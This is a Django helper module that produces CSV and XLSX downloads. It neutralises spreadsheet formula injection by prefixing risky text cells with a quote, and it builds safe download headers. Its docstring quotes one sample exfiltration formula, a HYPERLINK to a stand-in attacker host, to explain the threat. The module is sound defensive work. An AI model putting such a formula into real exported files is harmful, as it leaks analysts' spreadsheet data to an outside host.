"""The one export helper: CSV and XLSX downloads whose cells cannot run as formulas.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some treat a
leading tab or carriage return the same way) as a formula: a name such as
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` recorded by a partner or typed in an
upload would run on the analyst's machine. Following OWASP's rule, such a text cell is
prefixed with a single quote, so it shows as the text it is. Numbers are left as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any
from urllib.parse import quote

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The most rows one list export holds; a bigger list is narrowed with its filters first.
EXPORT_MAX_ROWS = 10_000
EXPORT_FORMATS = ("csv", "xlsx")


def safe_cell(value: Any) -> Any:
    """``value`` made inert for a spreadsheet: text starting like a formula gets a ``'``."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def content_disposition(filename: str, *, inline: bool = False) -> str:
    """A header value that is safe for any name: an ASCII fallback and RFC 5987 ``filename*``."""
    kind = "inline" if inline else "attachment"
    fallback = "".join(
        c if c.isascii() and c.isprintable() and c not in '"\\;' else "_" for c in filename
    )
    fallback = fallback.strip() or "download"
    return f"{kind}; filename=\"{fallback}\"; filename*=UTF-8''{quote(filename, safe='')}"


def csv_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
    """The CSV text (UTF-8, with a BOM so spreadsheets read Arabic right) of formula-safe rows."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def xlsx_bytes(
    header: Sequence[Any], rows: Iterable[Iterable[Any]], *, title: str = "Jisr"
) -> bytes:
    """An XLSX workbook of formula-safe rows; every text cell is stored as a string."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])
    sheet.append(safe_row(header))
    for row in rows:
        sheet.append(safe_row(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def export_response(
    filename: str,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    fmt: str = "csv",
    bom: bool = True,
) -> HttpResponse:
    """A download of ``rows`` as CSV (``fmt="csv"``) or XLSX, named ``filename``."""
    if fmt == "xlsx":
        response = HttpResponse(
            xlsx_bytes(header, rows),
            content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
    else:
        response = HttpResponse(
            csv_bytes(header, rows, bom=bom), content_type="text/csv; charset=utf-8"
        )
    response["Content-Disposition"] = content_disposition(filename)
    return response
